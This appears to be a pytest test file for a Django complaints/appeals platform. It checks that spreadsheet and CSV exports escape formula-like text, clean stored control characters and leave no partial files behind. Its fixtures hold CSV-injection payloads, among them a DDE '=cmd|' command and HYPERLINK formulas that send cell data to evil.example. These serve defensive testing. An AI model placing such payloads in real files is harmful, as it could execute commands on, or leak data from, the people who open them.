"""Every spreadsheet and CSV file the platform writes is safe to open in Excel or LibreOffice: text that
looks like a formula stays text (OWASP's CSV-injection rule), control characters already stored
never break a file, and a failed export leaves no file behind."""
from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import load_workbook

from gongzhi.appeals import importing
from gongzhi.appeals.models import Appeal

FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?q="&A1,"点我")', "\t=1+1", "+1+2", "-2+3",
            "@SUM(A1:A9)", "\r=1+1"]


def escaped(text: str) -> str:
    return "'" + text


@pytest.fixture
def formula_appeals(org, make_appeal):
    appeals = [make_appeal(title=f"标题{i}") for i in range(len(FORMULAS))]
    for appeal, text in zip(appeals, FORMULAS):  # stored as typed (intake strips the edges of a title)
        Appeal.objects.filter(pk=appeal.pk).update(title=text, content=f"{text} 内容")
    return appeals


def staff_export(client, org):
    client.force_login(org.supervisor)
    response = client.get(reverse("staff:appeal_export"))
    assert response.status_code == 200, response.content[:500]
    return load_workbook(io.BytesIO(response.content)).active


def assert_no_formula_cells(sheet) -> None:
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)


def test_the_staff_excel_export_writes_formula_like_titles_as_text(client, org, formula_appeals):
    sheet = staff_export(client, org)
    assert_no_formula_cells(sheet)
    title = [c.value for c in sheet[1]].index("标题")
    cells = {row[title].value: row[title] for row in sheet.iter_rows(min_row=2)}
    assert set(cells) == set(FORMULAS)  # the appellant's text, unchanged
    for cell in cells.values():
        assert cell.data_type == "s" and cell.quotePrefix  # as Excel stores a typed leading apostrophe


def test_the_cli_exports_neutralise_formula_triggers(formula_appeals, tmp_path):
    call_command("export", "appeals", "--format", "csv", "--out", str(tmp_path / "a.csv"), stdout=io.StringIO())
    with open(tmp_path / "a.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["title"] for r in rows) == sorted(escaped(f) for f in FORMULAS)
    assert all(r["content"].startswith("'") for r in rows)

    call_command("export", "appeals", "--format", "xlsx", "--out", str(tmp_path / "a.xlsx"), stdout=io.StringIO())
    sheet = load_workbook(tmp_path / "a.xlsx").active
    assert_no_formula_cells(sheet)
    title = [c.value for c in sheet[1]].index("title")
    assert sorted(row[title].value for row in sheet.iter_rows(min_row=2)) == sorted(FORMULAS)

    out = io.StringIO()  # JSON is data, not a spreadsheet: left as it is
    call_command("export", "appeals", "--format", "json", stdout=out)
    assert sorted(r["title"] for r in json.loads(out.getvalue())) == sorted(FORMULAS)


def test_the_open_data_csv_neutralises_formula_triggers(formula_appeals, tmp_path, published_at_once):
    call_command("opendata", "--out", str(tmp_path))
    with open(tmp_path / "appeals-latest.csv", newline="", encoding="utf-8-sig") as fh:
        rows = list(csv.DictReader(fh))
    assert sorted(r["title"] for r in rows) == sorted(escaped(f) for f in FORMULAS)
    json_rows = json.loads((tmp_path / "appeals-latest.json").read_text(encoding="utf-8"))
    assert sorted(r["title"] for r in json_rows) == sorted(FORMULAS)


def test_the_import_report_neutralises_formula_triggers(db, tmp_path):
    source = tmp_path / "orders.csv"
    with open(source, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["留言编号", "留言时间", "留言主题", "留言详情", "一级标签", "留言用户"])
        w.writerow(["1", "=HYPERLINK(\"http://evil.example\")", "标题", "内容", "城乡建设", "甲"])
        w.writerow(["=2+3", "2020-01-01 08:00:00", "标题", "内容", "城乡建设", "乙"])
    importing.import_file(source, importing.load_mapping("zh-messages", None), report_path=tmp_path / "r.csv")
    text = (tmp_path / "r.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["value"] == "'=HYPERLINK(\"http://evil.example\")"
    assert all(not v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())


def test_the_reply_quality_cli_neutralises_formula_triggers(tmp_path):
    from gongzhi.triage.cli import main

    src = tmp_path / "replies.csv"
    with open(src, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["留言编号", "留言主题", "留言详情", "留言时间", "答复意见", "答复时间"])
        w.writerow(["=1+1", "路灯", "路灯不亮", "2019/7/22 9:00:00", "已修复", "2019/7/25 9:00:00"])
    assert main(["reply-quality", "--csv", str(src), "--out", str(tmp_path / "o.csv")]) == 0
    with open(tmp_path / "o.csv", encoding="utf-8", newline="") as fh:
        assert [r["id"] for r in csv.DictReader(fh)] == ["'=1+1"]


# ---------------------------------------------------------------- control characters already stored

def test_exports_clean_control_characters_already_stored(client, org, make_appeal, tmp_path, published_at_once):
    appeal = make_appeal(title="路灯不亮")
    Appeal.objects.filter(pk=appeal.pk).update(title="路灯\u0001\u000b不亮", content="内容\x02\x1f")
    sheet = staff_export(client, org)
    assert "路灯不亮" in [c.value for c in sheet[2]]

    target = tmp_path / "a.xlsx"
    call_command("export", "appeals", "--format", "xlsx", "--out", str(target), stdout=io.StringIO())
    rows = list(load_workbook(target).active.iter_rows(values_only=True))
    assert rows[1][rows[0].index("title")] == "路灯不亮" and rows[1][rows[0].index("content")] == "内容"
    call_command("export", "appeals", "--format", "csv", "--out", str(tmp_path / "a.csv"), stdout=io.StringIO())
    with open(tmp_path / "a.csv", newline="", encoding="utf-8") as fh:
        assert next(csv.DictReader(fh))["title"] == "路灯不亮"
    call_command("opendata", "--out", str(tmp_path / "open"))
    with open(tmp_path / "open" / "appeals-latest.csv", newline="", encoding="utf-8-sig") as fh:
        assert next(csv.DictReader(fh))["title"] == "路灯不亮"


@pytest.mark.parametrize("fmt", ["xlsx", "csv", "json"])
def test_a_failed_export_leaves_no_file_and_keeps_the_old_one(org, make_appeal, tmp_path, fmt):
    make_appeal()
    fresh, old = tmp_path / f"new.{fmt}", tmp_path / f"old.{fmt}"
    old.write_bytes(b"yesterday's export")
    for target in (fresh, old):
        with pytest.raises(CommandError, match="no active user"):
            call_command("export", "appeals", "--format", fmt, "--out", str(target), "--user", "nobody",
                         stdout=io.StringIO())
    assert not fresh.exists() and old.read_bytes() == b"yesterday's export"
    assert sorted(p.name for p in tmp_path.iterdir()) == [old.name]  # no temporary file left either
    call_command("export", "appeals", "--format", fmt, "--out", str(old), stdout=io.StringIO())
    assert old.read_bytes() != b"yesterday's export"


def test_import_reports_rows_with_control_characters_as_dirty(db, tmp_path):
    source = tmp_path / "orders.csv"
    with open(source, "w", newline="", encoding="utf-8") as fh:
        w = csv.writer(fh)
        w.writerow(["留言编号", "留言时间", "留言主题", "留言详情", "一级标签", "留言用户"])
        w.writerow(["1", "2020-01-01 08:00:00", "路灯\x01\x0b不亮", "路灯不亮", "城乡建设", "甲"])
        w.writerow(["2", "2020-01-01 08:00:00", "路灯不亮", "第一行\r\n第二行\t有制表符", "城乡建设", "乙"])
        w.writerow(["3", "2020-01-01 08:00:00", "井盖", "井盖丢失", "城乡建设", "丙\x7f"])
    result = importing.import_file(source, importing.load_mapping("zh-messages", None), report_path=tmp_path / "r.csv")
    assert result.imported == 1 and result.errors == 2
    assert list(Appeal.objects.values_list("source_ref", flat=True)) == ["2"]
    with open(tmp_path / "r.csv", newline="", encoding="utf-8") as fh:
        report = list(csv.DictReader(fh))
    assert [(r["line"], r["level"], r["field"]) for r in report] == [("2", "error", "title"),
                                                                     ("5", "error", "appellant_name")]
    assert "U+0001" in report[0]["problem"] and report[0]["value"] == "路灯不亮"
